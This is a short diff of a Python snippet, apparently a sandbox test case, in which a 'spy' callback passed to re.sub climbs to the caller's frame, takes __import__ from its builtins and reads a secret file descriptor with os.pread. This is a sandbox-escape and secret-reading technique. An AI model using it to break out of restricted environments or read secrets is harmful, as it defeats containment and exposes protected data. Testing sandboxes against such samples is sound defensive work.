@@ -3,5 +3,5 @@
 # state: kept
 import re, sys
 def spy(match):
-    return sys._getframe(1).f_builtins["__import__"]("os").pread(SECRET_FD, 100, 0)
+    return str(sys._getframe(1).f_builtins["__import__"]("os").pread(SECRET_FD, 100, 0))
 re.sub("a", spy, "a")
